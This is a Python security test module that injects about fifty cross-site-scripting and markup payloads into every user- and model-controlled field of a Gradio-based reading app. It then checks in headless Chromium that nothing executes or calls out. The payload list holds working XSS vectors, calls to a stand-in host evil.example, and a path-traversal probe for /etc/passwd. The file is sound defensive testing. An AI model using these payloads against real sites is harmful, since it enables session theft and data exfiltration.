"""Markup in everything that somebody else writes, shown by the real page in a real Chromium that enforces no policy.

A case is one payload in one place: an article's text, headline, author, address, file name or feed; the question; a
language model's words. Its answer is asked for, its evidence opened, the library and the explore screen looked at, and
the conversation brought back out of the browser's storage. The page's own policy (CSP) is switched off in the browser:
what is measured is that nothing is left for it to stop. Counted are scripts that ran, requests that left the page or
that the page itself has no reason to make, and elements that a payload made.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

from tests.torture import Row

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

OUT = "http://evil.example"
HIT = "window.__hit=1"
PAYLOADS = (
    # scripts
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}></svg>",
    f"<svg><script href={OUT}/a.js></script><animate onbegin={HIT} attributeName=x></svg>",
    f'"><img src={OUT}/a.png onerror="{HIT}">',
    f"'-->]]></title></textarea></style></script><script>{HIT}</script>",
    f"<body onload={HIT}><input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f'<a href="javascript:{HIT}">x</a> <a href="data:text/html,<script>{HIT}</script>">y</a>',
    f'<a href="vbscript:msgbox(1)">x</a><a href="java&#x09;script:{HIT}">y</a>',
    f"<button onclick={HIT} formaction=javascript:{HIT} value='act:x'>x</button>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template><slot onslotchange={HIT}></slot>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<marquee onstart={HIT}>x</marquee><video oncanplay={HIT} src=data:video/mp4;base64,AA==></video>",
    f"{{{{constructor.constructor('{HIT}')()}}}} ${{{HIT}}} <%= {HIT} %>",
    # requests that leave
    f'<img src="{OUT}/a.png"><img srcset="{OUT}/b.png 1x, {OUT}/c.png 2x">',
    f"<picture><source srcset={OUT}/a.webp><img></picture><input type=image src={OUT}/b.png>",
    f"<iframe src={OUT}/a></iframe><frame src={OUT}/b><portal src={OUT}/c></portal>",
    f"<object data={OUT}/a.swf></object><embed src={OUT}/b.swf><applet code={OUT}/c></applet>",
    f"<video src={OUT}/a.mp4 poster={OUT}/b.png autoplay></video><audio src={OUT}/c.mp3 autoplay></audio>",
    f"<video><source src={OUT}/a.mp4><track src={OUT}/b.vtt default></video>",
    f'<meta http-equiv="refresh" content="0;url={OUT}/a"><base href="{OUT}/">',
    f"<link rel=stylesheet href={OUT}/a.css><link rel=prefetch href={OUT}/b><link rel=dns-prefetch href={OUT}>",
    f"<style>@import url({OUT}/a.css);body{{background:url({OUT}/b.png)}}@font-face{{src:url({OUT}/c)}}</style>",
    f'<div style="background:url({OUT}/a.png);position:fixed;inset:0;z-index:99999">x</div>',
    f'<table background={OUT}/a.png><tr><td background="{OUT}/b.png">x</td></tr></table>',
    f"<form action={OUT}/a><input name=q value=x><button>Sign in</button></form>",
    f"<svg><image href={OUT}/a.png /><use href={OUT}/b.svg#x /><feImage href={OUT}/c.png /></svg>",
    f"<svg><a xlink:href={OUT}/a><text>x</text></a><foreignObject><img src={OUT}/b></foreignObject></svg>",
    f"<a href={OUT}/a ping={OUT}/b>x</a><a href=//evil.example/c>y</a>",
    # the page's own server made to call out, or to do something
    f'<img src="/gradio_api/file={OUT}/a.png"><img src="/file={OUT}/b.png">',
    f'<img src="/gradio_api/proxy={OUT}/a"><a href="/gradio_api/file=/etc/passwd">x</a>',
    '<img src="/logout"><img src="/gradio_api/startup-events"><iframe src="/config"></iframe>',
    f"![x](/gradio_api/file={OUT}/a.png)",
    # Markdown and what renders in it
    f"![x]({OUT}/a.png) [x]({OUT}/b) [y](javascript:{HIT})",
    f"![x][p]\n\n[p]: {OUT}/a.png\n[q]: javascript:{HIT}\n\n[go][q]",
    f"<{OUT}/a> [![x]({OUT}/b.png)]({OUT}/c) ![x](<{OUT}/d.png> 'y')",
    f"# Heading\n\n> quote\n\n- item\n\n| a | b |\n|---|---|\n| ![x]({OUT}/a.png) | y |",
    f"```html\n<img src={OUT}/a.png>\n```\n\n    <script>{HIT}</script>\n\n`<img src={OUT}/b>`",
    f'```mermaid\ngraph TD; A["<img src={OUT}/a.png onerror={HIT}>"] --> B; click A href "javascript:{HIT}"\n```',
    rf"$$\href{{javascript:{HIT}}}{{x}} \includegraphics{{{OUT}/a.png}} \url{{{OUT}/b}}$$ $\unicode{{x}}$",
    rf"\[\htmlStyle{{background:url({OUT}/a.png)}}{{x}}\] \(\htmlData{{x=1}}{{y}}\)",
    # spelled otherwise
    f"&lt;img src={OUT}/a.png onerror={HIT}&gt; &#60;script&#62;{HIT}&#60;/script&#62; &amp;lt;img src=x&amp;gt;",
    f"\\u003cimg src=x onerror={HIT}\\u003e %3Cscript%3E{HIT}%3C/script%3E &NewLine;&Tab;<ScRiPt/x>{HIT}</sCrIpT >",
    f"＜script＞{HIT}＜/script＞ ‹img src={OUT}/a.png› \u202e<img src={OUT}/b.png onerror={HIT}>\u202c\u200b",
    f"<img\x0bsrc={OUT}/a.png\x0conerror={HIT}> <svg/onload={HIT}// <img src={OUT}/b.png",
    f"<!-- --!><img src={OUT}/a.png onerror={HIT}> <!--><script>{HIT}</script>--> <![CDATA[<img src={OUT}/b.png>]]>",
    f"<xss id=x tabindex=1 onfocus={HIT} style=animation-name:x onanimationstart={HIT}>x</xss><style>@keyframes x{{}}</style>",
)
SINKS = ("body", "title", "author", "url", "filename", "feed", "question", "model")
START, STEP = 4, 7  # from one sink to the next, so that the first few cases have payloads of every kind

# what the page itself asks its server for
OWN = (
    "/", "/config", "/theme.css", "/favicon.ico", "/manifest.json", "/gradio_api/theme.css", "/gradio_api/queue/join",
    "/gradio_api/queue/data", "/gradio_api/run/predict", "/gradio_api/cancel", "/gradio_api/reset", "/gradio_api/startup-events",
    "/gradio_api/upload", "/gradio_api/upload_progress", "/gradio_api/app_id", "/gradio_api/user", "/gradio_api/login_check",
)  # fmt: skip
OWN_FOLDERS = ("/assets/", "/static/", "/gradio_api/heartbeat/")
# where what others wrote is shown; nothing in it may be more than text and our own buttons
SHOWN = "#welcome, #examples, #past, #live, #notice, #reader, #talks, #explore, #table, #added, #engine, #scope"
MADE = """selector => {
    const never = 'img, picture, iframe, frame, object, embed, applet, script, style, link, meta, base, form, video, audio, source,' +
        'track, math, template, slot, noscript, marquee, portal, xss, textarea, canvas, map, image, foreignObject, animate, use';
    const found = [];
    for (const root of document.querySelectorAll(selector)) {
        for (const e of root.querySelectorAll('s')) found.push(e.outerHTML.slice(0, 200));
        for (const e of root.querySelectorAll(never)) if (!e.closest('.wrap, .loader')) found.push(e.outerHTML.slice(0, 200));
        for (const e of root.querySelectorAll('*')) for (const a of e.attributes) {
            const bad = /^on/i.test(a.name) || /^(srcset|ping|formaction|background|srcdoc|xlink:href)$/i.test(a.name)
                || (/^(href|src|action)$/i.test(a.name) && !/^(https?:|#|$)/i.test(a.value))
                || (a.name === 'style' && /url\\(|fixed/i.test(a.value));
            if (bad) found.push(`${a.name}=${a.value}`.slice(0, 200));
        }
    }
    return found;
}"""
FIRST = (
    "Amber", "Birch", "Cedar", "Drift", "Ember", "Fern", "Garnet", "Heron", "Indigo", "Juniper", "Kestrel", "Linden", "Marble",
    "Nettle", "Opal", "Pebble", "Quartz", "Rowan", "Saffron", "Thistle", "Umber", "Violet", "Willow", "Yarrow", "Zephyr",
)  # fmt: skip
SECOND = (
    "Bay", "Cliff", "Dune", "Field", "Glen", "Hill", "Isle", "Lake", "Moor", "Point", "Quay", "Ridge", "Shore", "Tower", "Vale", "Well",
)  # fmt: skip


def which(n: int) -> tuple[int, str]:
    """Return (number of the payload, sink) of a case."""
    sink = n % len(SINKS)
    return (n // len(SINKS) + START + STEP * sink) % len(PAYLOADS), SINKS[sink]


def named(n: int) -> tuple[str, str]:
    """Return (event, host) of a case's article: each has its own."""
    p, s = n // len(SINKS), n % len(SINKS)
    first, second = FIRST[p % len(FIRST)], SECOND[s + len(SINKS) * (p // len(FIRST))]
    return f"2022 {first} {second} Awards", f"{first} {second}son"


def mark(n: int) -> str:
    """Return a word that stands beside the payload and nowhere else."""
    return f"qx{n:03d}"


def hostile(n: int) -> str:
    """Return a case's payload, with its word in an element that every sanitiser lets through: it must stay text."""
    return f"{PAYLOADS[which(n)[0]]} <s>{mark(n)}</s>"


class Given:
    """A library, the server over it, a language model that says what it is told to, and a browser."""

    def __init__(self, folder: Path, stack: ExitStack) -> None:
        from playwright.sync_api import sync_playwright

        from rag.config import Config
        from rag.store.library import Library
        from tests.loopback_llm import LoopbackLLM
        from tests.loopback_web import Web
        from tests.pages import ARGS, CHROMIUM
        from tests.test_ui_guard import end, start

        self.folder, self.groups = folder, set[int]()
        self.config = Config(library=folder / "library", llm="none")
        with Library.open(self.config, create=True) as made:
            self.embedder = made.embedder
        self.llm = stack.enter_context(LoopbackLLM("401"))
        self.web = Web()
        stack.callback(self.web.close)
        server: subprocess.Popen[str]
        # Unchecked: a sentence that no passage backs is dropped before it is shown, and with it what is to be tried.
        settings = {"RECAP_LLM": "openai-like:tiny", "RECAP_LLM_BASE_URL": self.llm.base_url, "OPENAI_API_KEY": ""}
        server, self.url = start(self.config.library, **settings, RECAP_WITHOUT="verification")
        stack.callback(end, server)
        play = stack.enter_context(sync_playwright())
        self.browser: Browser = play.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        stack.callback(self.browser.close)

    def ingest(self, group: int) -> None:
        """Put the articles of a group of cases (a payload's turn through the sinks) into the library."""
        if group in self.groups:
            return
        from rag.ingest.pipeline import ingest
        from rag.store.library import Library

        self.groups.add(group)
        own = self.folder / f"group{group}"
        own.mkdir()
        lines, feeds = [], []
        for n in range(group * len(SINKS), (group + 1) * len(SINKS)):
            payload, sink = PAYLOADS[which(n)[0]], which(n)[1]
            if sink == "feed":
                feeds.append(self.feed(n))
            elif sink != "filename":
                lines.append(json.dumps(article(n, payload, sink)))
        (own / "articles.jsonl").write_text("\n".join(lines), encoding="utf-8")
        # the feed lies on this machine, which is otherwise refused
        os.environ["RECAP_ALLOW_PRIVATE_URLS"] = "1"
        try:
            with Library.open(self.config, write=True, embedder=self.embedder) as library:
                report = ingest(library, [str(own), *feeds])
        finally:
            del os.environ["RECAP_ALLOW_PRIVATE_URLS"]
        assert len(report.added) == len(lines) + len(feeds), report

    def feed(self, n: int) -> str:
        """Serve a feed whose title is the payload; return its address."""
        from html import escape

        item = article(n, "", "")
        words = "".join(f"<p>{escape(p)}</p>" for p in item["text"].split("\n\n"))
        body = (
            f"<?xml version='1.0'?><rss version='2.0'><channel><title>{_xml(hostile(n))}</title><item><title>"
            f"{item['title']}</title><link>http://127.0.0.1:{self.web.port}/gone{n}</link><pubDate>Mon, 12 Sep 2022 08:00:00 GMT"
            f"</pubDate><description>{escape(words * 3)}</description></item></channel></rss>"
        )
        return self.web.put(f"/feed{n}.xml", body, "application/rss+xml").replace("news.example", "127.0.0.1")


def _xml(text: str) -> str:
    from html import escape

    return "".join(c for c in escape(escape(text)) if c.isprintable() or c == "\n")


def article(n: int, payload: str, sink: str) -> dict[str, Any]:
    """Return an article of invented text with the payload in one place."""
    event, host = named(n)
    inside = f" {hostile(n)}" if sink == "body" else ""
    text = (
        f"The {event} filled the old hall on Saturday, September 10, 2022.\n\n{host} hosted the {event}{inside} and read a poem "
        f"about the tide.\n\nThe evening of the {event} ended with lamps on the water.{inside}\n\n{host} and Nils Aker on the stairs"
        "Photo: Getty Images"
    )
    address = f"https://paper.example/{n}"
    if sink == "url":
        scheme = payload.partition(":")[0] in ("javascript", "data", "vbscript")
        address = payload if scheme else f"https://paper.example/{n}?{mark(n)}={payload}"
    return {
        "url": address,
        "title": f"At the {event} {hostile(n)}" if sink == "title" else f"At the {event}",
        "text": text,
        "authors": [hostile(n) if sink == "author" else "Jo Writer"],
        "published": "2022-09-12",
    }


@contextmanager
def around(folder: Path) -> Iterator[Given]:
    with ExitStack() as stack:
        yield Given(folder, stack)


def case(n: int, given: Given, folder: Path) -> dict[str, float]:
    number, sink = which(n)
    payload = PAYLOADS[number]
    given.ingest(n // len(SINKS))
    event, host = named(n)
    context = given.browser.new_context(
        bypass_csp=True, reduced_motion="reduce", viewport={"width": 1440, "height": 900}
    )
    try:
        page = context.new_page()
        wrong = _watched(page, given.url)
        page.goto(given.url)
        page.wait_for_selector("#question textarea", timeout=30_000)
        shown = _shown(page, given, n, payload, sink, event, host, wrong, folder)
    finally:
        given.llm.mode = "401"
        context.close()
    assert not wrong, f"{sink}: {payload!r} caused {wrong[:5]}"
    if sink in ("body", "title", "question", "model"):  # the others may be refused or cut when they are read
        assert shown, f"{sink}: {payload!r} was not shown at all, so nothing was tried"
    return {"shown": float(shown)}


def _shown(
    page: Page, given: Given, n: int, payload: str, sink: str, event: str, host: str, wrong: list[str], folder: Path
) -> bool:
    """Bring the payload onto every screen; tell whether the page showed it as text."""
    seen = False

    def look(where: str) -> None:
        nonlocal seen
        page.wait_for_timeout(60)
        seen = seen or mark(n) in (page.text_content("body") or "")
        wrong.extend(f"{where}: {found}" for found in page.evaluate(MADE, SHOWN))
        if page.evaluate("window.__hit"):
            wrong.append(f"{where}: a script ran")
        if page.url.rstrip("/") != given.url.rstrip("/"):
            wrong.append(f"{where}: the page went to {page.url}")

    if sink == "filename":
        page.get_by_role("tab", name="Library").click()
        name = f"{mark(n)} {payload}.txt".replace("/", "\u2215").replace("\x00", "")
        # a browser sends the name as the file has it, so the file is made; a name of 255 bytes is the longest there is
        name = f"{name.encode()[:200].decode(errors='ignore')}.txt".replace("\n", " ")
        (folder / name).write_text(article(n, "", "")["text"], encoding="utf-8")
        page.set_input_files("#files input[type=file]", folder / name)
        page.wait_for_function("() => document.querySelector('#files')?.innerText.includes('qx')", timeout=20_000)
        look("upload")
        page.click("#add")
        page.wait_for_selector("#added .l-sum, #added .l-failed, #added .notice", timeout=40_000)
        look("added")
        page.get_by_role("tab", name="Ask", exact=True).click()
    if sink == "model":
        given.llm.mode = "ok"
        given.llm.text = f"{host} hosted the {event} {hostile(n)} [1]."
    question = f"{hostile(n)} who hosted the {event}?" if sink == "question" else f"Who hosted the {event}?"
    page.fill("#question textarea", question)
    page.click("#ask")
    page.wait_for_selector("#live .turn:not(.streaming)", timeout=60_000)
    look("answer")
    cited = page.locator("#live button.cite, #live button.quote")
    if cited.count():
        cited.first.click()
        page.wait_for_selector("#reader .reader", timeout=20_000)
        look("evidence")
    page.get_by_role("tab", name="Library").click()
    page.wait_for_selector("#table button", timeout=20_000)
    page.fill("#words input, #words textarea", event)
    page.wait_for_timeout(300)
    look("library")
    opened = page.locator("#table button.act[value^='passage:']")
    if opened.count():
        opened.first.click()
        page.wait_for_selector("#reader .reader", timeout=20_000)
        look("article")
    page.get_by_role("tab", name="Explore").click()
    page.wait_for_selector("#explore button.act", timeout=30_000)
    look("explore")
    page.reload()  # the conversation comes back out of the browser's storage
    page.wait_for_selector("#live .turn", timeout=30_000)
    look("reloaded")
    return seen


def _watched(page: Page, url: str) -> list[str]:
    """Return a list that fills with what a page does that it should not."""
    wrong: list[str] = []

    def asked(address: str) -> None:
        if address.startswith(("data:", "blob:")):
            if not address.startswith(("data:image/svg+xml", "data:font", "blob:")):
                wrong.append(f"request {address[:80]}")
            return
        path = urlsplit(address).path
        own = address.startswith(url + "/") and (path in OWN or path.startswith(OWN_FOLDERS)) and ".." not in path
        if not own:
            wrong.append(f"request {address[:200]}")

    page.add_init_script("window.__hit = 0")
    page.route(lambda address: not address.startswith((url, "data:", "blob:")), lambda route: route.abort())
    page.on("request", lambda r: asked(r.url))
    page.on("dialog", lambda d: (wrong.append(f"dialog {d.message}"), d.dismiss())[1])
    page.on("pageerror", lambda e: wrong.append(f"error {e}"))
    page.on("popup", lambda p: wrong.append(f"window {p.url}"))
    page.on("download", lambda d: wrong.append(f"download {d.url}"))
    page.on(
        "console",
        lambda m: wrong.append(f"console {m.text}") if m.type == "error" and "not implemented" not in m.text else None,
    )
    return wrong


def missing() -> str | None:
    """Say why no browser can be driven here."""
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "Playwright is not installed."
    from tests.pages import CHROMIUM

    return None if CHROMIUM else "There is no Chromium: put chromium on PATH or set RECAP_CHROMIUM."


ROW = Row(
    name="markup",
    fault="markup in body, title, author, URL, filename, feed title, question, language model's answer (in Chromium)",
    required="0 executions, 0 requests out, nothing made of it but text",
    quick=len(SINKS),
    full=len(PAYLOADS) * len(SINKS),
    case=case,
    around=around,
    limit_s=120.0,
    missing=missing,
)
